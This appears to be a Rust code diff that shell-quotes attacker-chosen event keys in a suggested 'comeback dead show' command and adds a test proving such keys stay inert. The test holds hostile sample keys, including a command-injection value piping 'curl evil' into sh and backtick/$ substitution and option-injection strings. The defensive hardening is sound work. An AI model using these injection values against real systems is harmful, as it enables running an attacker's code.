@@ -15,7 +15,7 @@ use crate::operate::pauses::in_force::InForce;
 use crate::operate::session::{Common, Session, coloured};
 use crate::operate::trace::story::{Early, End, Invocation, Report, Step, Trace, What};
 use crate::text::durations::{self, short};
-use crate::text::terminal::{Progress, shown};
+use crate::text::terminal::{Progress, command_line, shown};
 
 pub(crate) const EXAMPLES: &str = "\
 Examples:
@@ -199,7 +199,7 @@ fn end(trace: &Trace, now: Timestamp, place: &str) -> String {
         End::Kept => "It is kept, and the handler will try again.".into(),
         End::GivenUp => {
             let at = trace.story.steps.last().map(|step| format!(" at {}", step.at)).unwrap_or_default();
-            format!("Dead-lettered{at}. Still there? `comeback dead show {}{place}`", shown(&trace.story.key))
+            format!("Dead-lettered{at}. Still there? `{}`", dead_show(&trace.story.key, place))
         }
         End::Invoked { request_id, at } => {
             let retry = match trace.story.steps.last().map(|step| &step.what) {
@@ -209,6 +209,16 @@ fn end(trace: &Trace, now: Timestamp, place: &str) -> String {
             let report = invocation(trace, request_id).map(|invocation| &invocation.report);
             after_retry(&retry, *at, report, now)
         }
+    }
+}
+
+/// The command that shows a letter. Whoever sent the event may have chosen its key.
+fn dead_show(key: &str, place: &str) -> String {
+    let argument = command_line([&*shown(key)]);
+    if key.starts_with('-') {
+        format!("comeback dead show{place} -- {argument}")
+    } else {
+        format!("comeback dead show {argument}{place}")
     }
 }
 
@@ -339,6 +349,25 @@ Retry 1 probably succeeded: it ended at 2026-09-14T15:33:25.000Z, and no failure
 
     fn early(asked_at: Option<Timestamp>, asked_by: Option<String>, speed: Option<f64>) -> Early {
         Early { asked_at, asked_by, speed, otherwise_due: at(25_380) }
+    }
+
+    #[test]
+    fn a_key_cannot_command_the_shell() {
+        for (key, shown) in
+            [("x; curl evil|sh #", "x; curl evil|sh #"), ("a\0`b`$c", "a\\u{0}`b`$c"), ("-k'", "-k'")]
+        {
+            let mut trace = trace(Vec::new(), End::GivenUp, Vec::new());
+            trace.story.key = key.into();
+            let text = plain(&trace, 64);
+            let (_, command) = text.trim_end().split_once("Still there? `").unwrap();
+            let words = shlex::split(command.strip_suffix('`').unwrap()).unwrap();
+            let words: Vec<_> = words.iter().map(String::as_str).collect();
+            if key.starts_with('-') {
+                assert_eq!(words, ["comeback", "dead", "show", "--stack", "shop", "--", shown]);
+            } else {
+                assert_eq!(words, ["comeback", "dead", "show", shown, "--stack", "shop"]);
+            }
+        }
     }
 
     #[test]
